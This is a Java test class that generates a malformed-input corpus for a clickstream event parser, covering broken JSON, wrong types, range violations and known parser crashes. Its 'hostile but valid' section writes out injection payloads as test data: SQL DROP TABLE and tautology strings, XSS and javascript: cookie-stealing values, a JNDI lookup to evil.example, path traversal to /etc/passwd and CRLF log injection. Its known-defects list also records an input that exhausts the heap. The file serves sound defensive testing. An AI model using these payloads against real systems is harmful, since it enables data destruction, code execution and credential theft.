package com.clickstream.attribution.core.contract;

import static com.clickstream.attribution.core.contract.EventJsonTest.NOW;
import static com.clickstream.attribution.core.contract.EventJsonTest.checkout;
import static com.clickstream.attribution.core.contract.EventJsonTest.click;

import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.zip.GZIPOutputStream;

/**
 * Generator of the malformed-input corpus under {@code src/test/resources/malformed/} (issue 8, bad
 * input, attribution-core level). The committed {@code .jsonl} files are its output; {@link
 * MalformedCorpusTest} checks they are in sync and that every case gets its expected answer. All
 * timestamps are relative to {@link EventJsonTest#NOW} (the tests parse with a clock fixed there).
 *
 * <p>Regenerate after a change here: compile the test classes, then run {@code main} from the
 * {@code attribution-core} directory (see MalformedCorpusTest's class comment).
 *
 * <p>Files (one JSON object per line; the record bytes travel as base64 so invalid UTF-8 survives):
 * <ul>
 *   <li>{@code corpus.jsonl}: {@code kind, expected_reason (a RejectReason code), payload_base64[, stream]}</li>
 *   <li>{@code hostile-valid.jsonl}: inputs that look bad but satisfy the contract, so they are NOT
 *       malformed: {@code kind, field, expected_value, note, payload_base64}; the field must come out
 *       char-exact</li>
 *   <li>{@code known-defects.jsonl}: inputs on which the parser currently breaks its "never throws"
 *       promise; {@code expected_reason} is what it should answer, {@code execute=false} marks a case
 *       too costly to run (it exhausts the heap)</li>
 * </ul>
 */
public final class MalformedCorpus {

    /** A corpus line. {@code expected} is a reason code, or {@code "valid"}. */
    public record Case(String kind, String expected, byte[] payload, String stream, String field,
                       String expectedValue, String note, boolean execute) {
    }

    /** Writes the wrapper lines in pure ASCII (non-ASCII and lone surrogates as \\u escapes). */
    static final ObjectMapper WRAPPER = JsonMapper.builder()
            .enable(JsonWriteFeature.ESCAPE_NON_ASCII)
            .disable(JsonGenerator.Feature.AUTO_CLOSE_TARGET)
            .build();

    private static final String CLICK = EventJson.toJson(click());
    private static final String CHECKOUT = EventJson.toJson(checkout());
    /** The click with an empty product_name, for inserting raw bytes into it. */
    private static final String NO_NAME = CLICK.replace("\"Desk lamp\"", "\"\"");

    private MalformedCorpus() {
    }

    // ------------------------------------------------------------------ malformed: must be Rejected

    static List<Case> malformed() {
        List<Case> c = new ArrayList<>();
        // syntax -> not_json
        c.add(bad("truncated in the middle of a string", CLICK.substring(0, CLICK.indexOf("Desk") + 2), "not_json"));
        c.add(bad("truncated after a colon", CLICK.substring(0, CLICK.indexOf("user_id") + 9), "not_json"));
        c.add(bad("truncated to one brace", "{", "not_json"));
        c.add(bad("truncated checkout inside items", CHECKOUT.substring(0, CHECKOUT.indexOf("quantity")), "not_json"));
        c.add(bad("empty payload", "", "not_json"));
        c.add(bad("whitespace only", " \n\t\r ", "not_json"));
        c.add(bad("two events concatenated", CLICK + CLICK, "not_json"));
        c.add(bad("two events newline-delimited in one record", CLICK + "\n" + CHECKOUT, "not_json"));
        c.add(bad("NaN price", replaceNumber(CLICK, "19.90", "NaN"), "not_json"));
        c.add(bad("Infinity price", replaceNumber(CLICK, "19.90", "Infinity"), "not_json"));
        c.add(bad("-Infinity total", replaceNumber(CHECKOUT, "40.10", "-Infinity"), "not_json"));
        c.add(bad("single-quoted strings", CLICK.replace('"', '\''), "not_json"));
        c.add(bad("unquoted keys", CLICK.replace("\"event_id\"", "event_id"), "not_json"));
        c.add(bad("trailing comma", CLICK.substring(0, CLICK.length() - 1) + ",}", "not_json"));
        c.add(bad("comment before the object", "/* hi */" + CLICK, "not_json"));
        c.add(bad("number with a leading zero", replaceNumber(CLICK, "19.90", "019.90"), "not_json"));
        c.add(bad("number with a plus sign", replaceNumber(CLICK, "19.90", "+19.90"), "not_json"));
        c.add(bad("hex number", replaceNumber(CLICK, "19.90", "0x13"), "not_json"));
        c.add(bad("number longer than 1000 digits", replaceNumber(CLICK, "19.90", "1" + "0".repeat(1000)), "not_json"));
        c.add(bad("invalid UTF-8 middle byte", withBytes(CLICK, "Desk", 0xC3, 0x28), "not_json"));
        c.add(bad("invalid UTF-8 start byte 0xFF", withBytes(CLICK, "Desk", 0xFF), "not_json"));
        c.add(bad("UTF-8 sequence cut by the closing quote", withBytes(CLICK, "\",\"product_category", 0xE2, 0x82), "not_json"));
        c.add(bad("latin-1 byte in a string", withBytes(CLICK, "Desk", 0xE9), "not_json"));
        c.add(bad("raw NUL byte inside a string", withBytes(CLICK, "Desk", 0x00), "not_json"));
        c.add(bad("raw newline inside a string", CLICK.replace("Desk lamp", "Desk\nlamp"), "not_json"));
        c.add(bad("invalid escape \\x41", CLICK.replace("Desk lamp", "Desk \\x41"), "not_json"));
        c.add(bad("nesting 1001 deep in an extra field", CLICK.replace("{\"event_id\"",
                "{\"x\":" + "[".repeat(1001) + "]".repeat(1001) + ",\"event_id\""), "not_json"));
        c.add(bad("gzip-compressed event", gzip(CLICK.getBytes(StandardCharsets.UTF_8)), "not_json", null));
        c.add(bad("random binary bytes", randomBytes(512, 8), "not_json", null));
        // not an object
        c.add(bad("array of events", "[" + CLICK + "]", "not_an_object"));
        c.add(bad("top-level number", "42", "not_an_object"));
        c.add(bad("top-level null", "null", "not_an_object"));
        c.add(bad("top-level boolean", "true", "not_an_object"));
        c.add(bad("array nested 500 deep", "[".repeat(500) + "]".repeat(500), "not_an_object"));
        c.add(bad("double-encoded event (JSON string holding the event)", quoteJson(CLICK), "not_an_object"));
        // event type
        c.add(bad("empty object", "{}", "unknown_event_type"));
        c.add(clickWith("event_type upper-case Click", n -> n.put("event_type", "Click"), "unknown_event_type"));
        c.add(clickWith("event_type with trailing space", n -> n.put("event_type", "click "), "unknown_event_type"));
        c.add(clickWith("event_type null", n -> n.putNull("event_type"), "unknown_event_type"));
        c.add(clickWith("event_type empty", n -> n.put("event_type", ""), "unknown_event_type"));
        c.add(clickWith("event_type as array", n -> n.putArray("event_type").add("click"), "unknown_event_type"));
        c.add(clickWith("event_type with a lone surrogate", n -> n.put("event_type", "click\uD800"),
                "unknown_event_type"));
        c.add(bad("duplicate key event_type, last one view (last wins)",
                CLICK.replace("\"event_type\":\"click\"", "\"event_type\":\"click\",\"event_type\":\"view\""),
                "unknown_event_type"));
        Case wrong = bad("checkout on the clicks stream", CHECKOUT, "wrong_stream");
        c.add(new Case(wrong.kind(), wrong.expected(), wrong.payload(), "click", null, null, null, true));
        // missing / null fields
        c.add(clickWith("event_id missing", n -> n.remove("event_id"), "missing_field"));
        c.add(clickWith("event_id null", n -> n.putNull("event_id"), "missing_field"));
        c.add(checkoutWith("total_amount null", n -> n.putNull("total_amount"), "missing_field"));
        c.add(checkoutWith("checkout body labelled click", n -> n.put("event_type", "click"), "missing_field"));
        c.add(checkoutWith("line item product_name missing", n -> item0(n).remove("product_name"), "missing_field"));
        // wrong JSON types
        c.add(clickWith("event_id as number", n -> n.put("event_id", 123), "wrong_type"));
        c.add(clickWith("event_id as boolean", n -> n.put("event_id", true), "wrong_type"));
        c.add(clickWith("user_id as object", n -> n.putObject("user_id").put("id", "u-1"), "wrong_type"));
        c.add(clickWith("price as array", n -> n.putArray("product_price").add(new BigDecimal("19.90")), "wrong_type"));
        c.add(clickWith("price as boolean", n -> n.put("product_price", false), "wrong_type"));
        c.add(clickWith("event_ts with a fraction", n -> n.put("event_ts", new BigDecimal(NOW.toEpochMilli() + ".5")),
                "wrong_type"));
        c.add(clickWith("event_ts beyond a long", n -> n.put("event_ts", new java.math.BigInteger("99999999999999999999")),
                "wrong_type"));
        c.add(clickWith("campaign_id as number", n -> n.put("campaign_id", 7), "wrong_type"));
        c.add(checkoutWith("quantity as string", n -> item0(n).put("quantity", "2"), "wrong_type"));
        c.add(checkoutWith("quantity beyond an int", n -> item0(n).put("quantity", 2_147_483_648L), "wrong_type"));
        c.add(checkoutWith("items holding a null", n -> ((ArrayNode) n.get("items")).insertNull(0), "wrong_type"));
        c.add(checkoutWith("items holding a string", n -> ((ArrayNode) n.get("items")).insert(0, "p-1"), "wrong_type"));
        // empty ids
        c.add(clickWith("event_id empty", n -> n.put("event_id", ""), "empty_id"));
        c.add(clickWith("session_id tab and newline", n -> n.put("session_id", "\t\n"), "empty_id"));
        c.add(clickWith("product_id em space U+2003", n -> n.put("product_id", "\u2003"), "empty_id"));
        c.add(checkoutWith("line item product_id blank", n -> item0(n).put("product_id", "  "), "empty_id"));
        // amounts
        c.add(clickWith("price minus one cent", n -> n.put("product_price", new BigDecimal("-0.01")), "negative_amount"));
        c.add(checkoutWith("unit price negative", n -> item0(n).put("unit_price", new BigDecimal("-19.90")),
                "negative_amount"));
        c.add(bad("duplicate key product_price, last one negative (last wins)",
                CLICK.replace("\"product_price\":19.90", "\"product_price\":19.90,\"product_price\":-19.90"),
                "negative_amount"));
        c.add(clickWith("price one cent above the maximum", n -> n.put("product_price", new BigDecimal("100000.01")),
                "absurd_amount"));
        c.add(clickWith("price 1e308", n -> n.put("product_price", new BigDecimal("1e308")), "absurd_amount"));
        c.add(checkoutWith("unit price 99999999.99", n -> item0(n).put("unit_price", new BigDecimal("99999999.99")),
                "absurd_amount"));
        c.add(clickWith("price with a tenth of a cent", n -> n.put("product_price", new BigDecimal("0.001")),
                "amount_precision"));
        c.add(bad("price 1e-400", replaceNumber(CLICK, "19.90", "1e-400"), "amount_precision"));
        c.add(checkoutWith("total with three places", n -> n.put("total_amount", new BigDecimal("40.100001")),
                "amount_precision"));
        c.add(checkoutWith("quantity negative", n -> item0(n).put("quantity", -1), "quantity_out_of_range"));
        c.add(checkoutWith("quantity one above the maximum", n -> item0(n).put("quantity", 1001), "quantity_out_of_range"));
        c.add(checkoutWith("total ignores quantities", n -> n.put("total_amount", new BigDecimal("20.00")),
                "item_total_mismatch"));
        c.add(checkoutWith("total zero", n -> n.put("total_amount", new BigDecimal("0.00")), "item_total_mismatch"));
        c.add(checkoutWith("items empty", n -> n.putArray("items"), "items_empty"));
        // currency, device
        c.add(checkoutWith("currency two letters", n -> n.put("currency", "US"), "invalid_currency"));
        c.add(checkoutWith("currency four letters", n -> n.put("currency", "USDX"), "invalid_currency"));
        c.add(checkoutWith("currency full-width letters", n -> n.put("currency", "\uFF35\uFF33\uFF24"), "invalid_currency"));
        c.add(checkoutWith("currency symbol", n -> n.put("currency", "\u20AC"), "invalid_currency"));
        c.add(checkoutWith("currency empty", n -> n.put("currency", ""), "invalid_currency"));
        c.add(clickWith("device_type capitalised", n -> n.put("device_type", "Mobile"), "unknown_device_type"));
        c.add(clickWith("device_type empty", n -> n.put("device_type", ""), "unknown_device_type"));
        c.add(clickWith("device_type with a trailing NUL", n -> n.put("device_type", "mobile\u0000"),
                "unknown_device_type"));
        // time
        long skew = Duration.ofMinutes(5).toMillis();
        long retention = Duration.ofDays(30).toMillis();
        c.add(clickWith("event_ts 1 ms beyond the clock skew", n -> n.put("event_ts", NOW.toEpochMilli() + skew + 1),
                "event_time_in_future"));
        c.add(clickWith("event_ts Long.MAX_VALUE", n -> n.put("event_ts", Long.MAX_VALUE), "event_time_in_future"));
        c.add(clickWith("event_ts in microseconds", n -> n.put("event_ts", NOW.toEpochMilli() * 1000), "event_time_in_future"));
        c.add(clickWith("event_ts 1 ms before the retention", n -> n.put("event_ts", NOW.toEpochMilli() - retention - 1),
                "event_time_before_retention"));
        c.add(clickWith("event_ts zero (1970)", n -> n.put("event_ts", 0), "event_time_before_retention"));
        c.add(clickWith("event_ts negative", n -> n.put("event_ts", -1), "event_time_before_retention"));
        c.add(clickWith("event_ts Long.MIN_VALUE", n -> n.put("event_ts", Long.MIN_VALUE), "event_time_before_retention"));
        c.add(clickWith("event_ts in seconds instead of ms", n -> n.put("event_ts", NOW.getEpochSecond()),
                "event_time_before_retention"));
        // size
        c.add(clickWith("product_name of 66,000 chars", n -> n.put("product_name", "x".repeat(66_000)), "record_too_large"));
        c.add(bad("product_name of 17,000 emoji (68 KB of raw UTF-8)",
                CLICK.replace("Desk lamp", "\uD83D\uDED2".repeat(17_000)), "record_too_large"));
        c.add(bad("valid click padded with spaces to 64 KiB + 1 byte", CLICK + " ".repeat(64 * 1024 - CLICK.length() + 1), "record_too_large"));
        c.add(checkoutWith("checkout with 1,000 line items", n -> {
            ArrayNode items = n.putArray("items");
            for (int i = 0; i < 1000; i++) {
                items.add(EventJson.toNode(checkout().getItems().get(0)));
            }
        }, "record_too_large"));
        // characters the store cannot hold: legal JSON escapes, but PostgreSQL text has no NUL (found by
        // MalformedCorpusKinesisIT: a NUL click id failed the streaming sink's COPY on every retry)
        c.add(clickWith("escaped NUL inside event_id", n -> n.put("event_id", "clk\u0000-1"), "nul_character"));
        c.add(clickWith("event_id only an escaped NUL", n -> n.put("event_id", "\u0000"), "nul_character"));
        c.add(checkoutWith("line item product_name with an escaped NUL", n -> item0(n).put("product_name", "Desk\u0000lamp"),
                "nul_character"));
        return c;
    }

    // ------------------------------------------------------------------ hostile but valid: must be Valid

    static List<Case> hostileButValid() {
        List<Case> c = new ArrayList<>();
        c.add(okClick("SQL injection in event_id", "event_id", "'; DROP TABLE attribution_results; --",
                "a string; only bind parameters downstream make it harmless"));
        c.add(okClick("SQL tautology in user_id", "user_id", "u-1' OR '1'='1", "a string"));
        c.add(okClick("script tag in user_id", "user_id", "<script>alert(1)</script>", "a string; escape on display"));
        c.add(okClick("javascript: page_url", "page_url", "javascript:alert(document.cookie)", "page_url is not validated as a URL"));
        c.add(okClick("JNDI lookup in traffic_source", "traffic_source", "${jndi:ldap://evil.example/a}", "a string"));
        c.add(okClick("format string in product_name", "product_name", "%s%s%n%x", "a string"));
        c.add(okClick("path traversal in product_id", "product_id", "../../etc/passwd", "a string; never use ids as paths"));
        c.add(okClick("CRLF log injection in product_name", "product_name", "lamp\r\nINFO forged log line", "escaped in JSON, a string"));
        c.add(okClick("RTL override in product_name", "product_name", "\u202Egnp.exe", "a string"));
        c.add(okClick("emoji with ZWJ in product_name", "product_name", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83D\uDED2", "4-byte UTF-8"));
        c.add(okClick("combining characters in product_category", "product_category", "home\u0301\u0301\u0301", "a string"));
        c.add(okClick("event_id only a no-break space U+00A0", "event_id", "\u00A0", "Character.isWhitespace(U+00A0) is false"));
        c.add(okClick("event_id only a zero-width space U+200B", "event_id", "\u200B", "not whitespace for Java"));
        c.add(okClick("lone high surrogate in product_name", "product_name", "lamp\uD800",
                "accepted as a Java string; EventJson.toJsonBytes writes it as '?' and Avro equals() cannot tell"));
        c.add(okClick("product_name of 60,000 chars (record under 64 KiB)", "product_name", "x".repeat(60_000),
                "only the record size bounds a string"));
        c.add(okClick("user_id of 10,000 chars", "user_id", "u".repeat(10_000), "ids have no length limit"));
        c.add(ok("extra unknown fields", "event_id", "clk-1",
                "EventJson ignores unknown fields (forward compatible)",
                CLICK.replace("{\"event_id\"", "{\"admin\":true,\"__proto__\":{\"x\":1},\"$where\":\"1\",\"event_id\"")
                        .getBytes(StandardCharsets.UTF_8)));
        c.add(ok("extra field nested 900 deep", "event_id", "clk-1", "Jackson's depth limit is 1000",
                CLICK.replace("{\"event_id\"", "{\"x\":" + "{\"a\":".repeat(900) + "1" + "}".repeat(900) + ",\"event_id\"")
                        .getBytes(StandardCharsets.UTF_8)));
        c.add(ok("duplicate key user_id (last wins)", "user_id", "u-2", "Jackson keeps the last duplicate",
                CLICK.replace("\"user_id\":\"u-1\"", "\"user_id\":\"u-1\",\"user_id\":\"u-2\"").getBytes(StandardCharsets.UTF_8)));
        byte[] click = CLICK.getBytes(StandardCharsets.UTF_8);
        byte[] bom = new byte[click.length + 3];
        bom[0] = (byte) 0xEF;
        bom[1] = (byte) 0xBB;
        bom[2] = (byte) 0xBF;
        System.arraycopy(click, 0, bom, 3, click.length);
        c.add(ok("UTF-8 byte order mark", "event_id", "clk-1", "Jackson skips the BOM", bom));
        c.add(ok("record encoded as UTF-16BE", "product_name", "Desk lamp", "Jackson auto-detects UTF-16/32",
                CLICK.getBytes(StandardCharsets.UTF_16BE)));
        c.add(ok("record encoded as UTF-32LE", "product_name", "Desk lamp", "Jackson auto-detects UTF-16/32",
                CLICK.getBytes(Charset.forName("UTF-32LE"))));
        c.add(ok("overlong UTF-8 encoding of '/' (C0 AF)", "product_name", "/",
                "invalid UTF-8 that Jackson decodes instead of rejecting", withBytes(NO_NAME, "\",\"product_category", 0xC0, 0xAF)));
        c.add(ok("CESU-8 encoded surrogate (ED A0 80)", "product_name", "\uD800",
                "invalid UTF-8 that Jackson decodes to a lone surrogate", withBytes(NO_NAME, "\",\"product_category", 0xED, 0xA0, 0x80)));
        c.add(okClick("price minus zero", "device_type", "mobile", "-0.00 has signum 0, kept as 0.00",
                n -> n.put("product_price", new BigDecimal("-0.00"))));
        c.add(okClick("price 1e2 exponent form", "device_type", "mobile", "100 as 1e2 is a valid amount",
                n -> n.put("product_price", new BigDecimal("1E+2"))));
        c.add(okClick("event_ts exactly at the clock skew", "device_type", "mobile", "bound is inclusive",
                n -> n.put("event_ts", NOW.toEpochMilli() + Duration.ofMinutes(5).toMillis())));
        c.add(okClick("event_ts exactly at the retention", "device_type", "mobile", "bound is inclusive",
                n -> n.put("event_ts", NOW.toEpochMilli() - Duration.ofDays(30).toMillis())));
        c.add(ok("checkout currency XXX", "currency", "XXX", "any 3 upper-case letters pass; no ISO 4217 list",
                EventJson.toJson(checkout()).replace("\"USD\"", "\"XXX\"").getBytes(StandardCharsets.UTF_8)));
        return c;
    }

    // ------------------------------------------------------------------ known defects (issue 8 surprises)

    static List<Case> knownDefects() {
        List<Case> c = new ArrayList<>();
        c.add(defect("price 1e309 (beyond double) throws NumberFormatException", "absurd_amount",
                replaceNumber(CLICK, "19.90", "1e309"), true,
                "Jackson makes a DoubleNode(Infinity) for numbers beyond double range even with USE_BIG_DECIMAL_FOR_FLOATS; "
                        + "EventJson.decodeValue calls decimalValue() -> NumberFormatException escapes EventParser.parse"));
        c.add(defect("total -1e400 throws NumberFormatException", "negative_amount",
                replaceNumber(CHECKOUT, "40.10", "-1e400"), true, "same as 1e309"));
        c.add(defect("unit_price 1e999999999 throws NumberFormatException", "absurd_amount",
                CHECKOUT.replace("\"unit_price\":0.10", "\"unit_price\":1e999999999"), true, "same as 1e309"));
        c.add(defect("price 1e-999999999 exhausts the heap", "amount_precision",
                replaceNumber(CLICK, "19.90", "1e-999999999"), false,
                "EventJson.decodeDecimal puts raw.toPlainString() (a 1 GB string) into the rejection detail: "
                        + "OutOfMemoryError from a 300-byte record; smaller exponents (1e-50000) give a 50 KB detail"));
        return c;
    }

    // ------------------------------------------------------------------ file I/O

    static final String CORPUS = "corpus.jsonl";
    static final String HOSTILE = "hostile-valid.jsonl";
    static final String DEFECTS = "known-defects.jsonl";

    static String toJsonl(List<Case> cases) {
        StringBuilder out = new StringBuilder();
        for (Case k : cases) {
            Map<String, Object> line = new LinkedHashMap<>();
            line.put("kind", k.kind());
            line.put("expected_reason", k.expected());
            if (k.stream() != null) {
                line.put("stream", k.stream());
            }
            if (k.field() != null) {
                line.put("field", k.field());
                line.put("expected_value", k.expectedValue());
            }
            if (k.note() != null) {
                line.put("note", k.note());
            }
            if (!k.execute()) {
                line.put("execute", false);
            }
            line.put("payload_base64", Base64.getEncoder().encodeToString(k.payload()));
            try {
                out.append(WRAPPER.writeValueAsString(line)).append('\n');
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return out.toString();
    }

    static List<Case> fromJsonl(String text) {
        List<Case> cases = new ArrayList<>();
        for (String line : text.split("\n")) {
            if (line.isBlank()) {
                continue;
            }
            try {
                JsonNode n = WRAPPER.readTree(line);
                cases.add(new Case(n.get("kind").textValue(), n.get("expected_reason").textValue(),
                        Base64.getDecoder().decode(n.get("payload_base64").textValue()),
                        text(n, "stream"), text(n, "field"), text(n, "expected_value"), text(n, "note"),
                        !n.has("execute") || n.get("execute").booleanValue()));
            } catch (IOException e) {
                throw new UncheckedIOException("bad corpus line: " + line, e);
            }
        }
        return cases;
    }

    /** Writes the three files. Run from the attribution-core directory or the repository root. */
    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args.length > 0 ? args[0] : "src/test/resources/malformed");
        if (args.length == 0 && !Files.isDirectory(dir.getParent())) {
            dir = Path.of("attribution-core").resolve(dir);
        }
        Files.createDirectories(dir);
        Files.writeString(dir.resolve(CORPUS), toJsonl(malformed()), StandardCharsets.US_ASCII);
        Files.writeString(dir.resolve(HOSTILE), toJsonl(hostileButValid()), StandardCharsets.US_ASCII);
        Files.writeString(dir.resolve(DEFECTS), toJsonl(knownDefects()), StandardCharsets.US_ASCII);
        System.out.println("wrote " + dir.toAbsolutePath());
    }

    // ------------------------------------------------------------------ helpers

    private static String text(JsonNode n, String field) {
        return n.hasNonNull(field) ? n.get(field).textValue() : null;
    }

    private static Case bad(String kind, String json, String reason) {
        return bad(kind, json.getBytes(StandardCharsets.UTF_8), reason, null);
    }

    private static Case bad(String kind, byte[] payload, String reason) {
        return bad(kind, payload, reason, null);
    }

    private static Case bad(String kind, byte[] payload, String reason, String stream) {
        return new Case(kind, reason, payload, stream, null, null, null, true);
    }

    private static Case defect(String kind, String reason, String json, boolean execute, String note) {
        return new Case(kind, reason, json.getBytes(StandardCharsets.UTF_8), null, null, null, note, execute);
    }

    private static Case clickWith(String kind, Consumer<ObjectNode> change, String reason) {
        ObjectNode node = EventJson.toNode(click());
        change.accept(node);
        return new Case(kind, reason, jsonBytes(node), null, null, null, null, true);
    }

    private static Case checkoutWith(String kind, Consumer<ObjectNode> change, String reason) {
        ObjectNode node = EventJson.toNode(checkout());
        change.accept(node);
        return new Case(kind, reason, jsonBytes(node), null, null, null, null, true);
    }

    private static Case okClick(String kind, String field, String value, String note) {
        return okClick(kind, field, value, note, n -> n.put(field, value));
    }

    private static Case okClick(String kind, String field, String value, String note, Consumer<ObjectNode> change) {
        ObjectNode node = EventJson.toNode(click());
        change.accept(node);
        return ok(kind, field, value, note, jsonBytes(node));
    }

    private static Case ok(String kind, String field, String value, String note, byte[] payload) {
        return new Case(kind, "valid", payload, null, field, value, note, true);
    }

    /** JSON bytes with non-ASCII escaped, so lone surrogates reach the parser as \\uD800 escapes. */
    private static byte[] jsonBytes(JsonNode node) {
        try {
            return WRAPPER.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static ObjectNode item0(ObjectNode checkout) {
        return (ObjectNode) checkout.get("items").get(0);
    }

    private static String replaceNumber(String json, String number, String replacement) {
        if (!json.contains(":" + number)) {
            throw new IllegalArgumentException(number + " not in " + json);
        }
        return json.replace(":" + number, ":" + replacement);
    }

    private static String quoteJson(String json) {
        try {
            return WRAPPER.writeValueAsString(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The UTF-8 of {@code json} with {@code bytes} inserted before the first {@code marker}. */
    private static byte[] withBytes(String json, String marker, int... bytes) {
        byte[] utf8 = json.getBytes(StandardCharsets.UTF_8);
        int at = json.indexOf(marker); // ASCII prefix, so char index == byte index
        if (at < 0) {
            throw new IllegalArgumentException(marker);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(utf8, 0, at);
        for (int b : bytes) {
            out.write(b);
        }
        out.write(utf8, at, utf8.length - at);
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] randomBytes(int n, long seed) {
        byte[] b = new byte[n];
        new Random(seed).nextBytes(b);
        b[0] = (byte) 0x9C; // never a JSON start
        return b;
    }
}
